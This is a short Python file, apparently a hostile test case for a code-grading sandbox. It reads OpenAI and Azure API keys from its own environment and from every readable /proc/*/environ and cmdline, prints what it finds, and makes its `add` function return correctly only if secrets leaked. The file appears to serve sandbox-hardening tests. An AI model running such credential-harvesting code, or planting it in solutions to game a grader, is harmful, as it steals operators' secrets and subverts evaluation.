# Attack class: reading the grader's environment and /proc. Looks for API keys and other
# secrets in its own environment, in every /proc/<pid>/environ and cmdline it can read, in
# /proc/self/mountinfo and the kernel's connection file; `add` is right only if it found the
# grader's OPENAI_API_KEY or the probe variable the test sets, so it scores only if the
# environment leaked.
import glob
import os

found = []
for key in ("OPENAI_API_KEY", "SERVELAB_HOSTILE_PROBE", "AZURE_OPENAI_API_KEY"):
    if os.environ.get(key):
        found.append(os.environ[key])
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        continue
    for marker in (b"OPENAI_API_KEY=", b"SERVELAB_HOSTILE_PROBE="):
        if marker in data:
            found.append(data.split(marker, 1)[1].split(b"\0", 1)[0].decode(errors="replace"))
print("found", found)


def add(a, b):
    return a + b if found else None
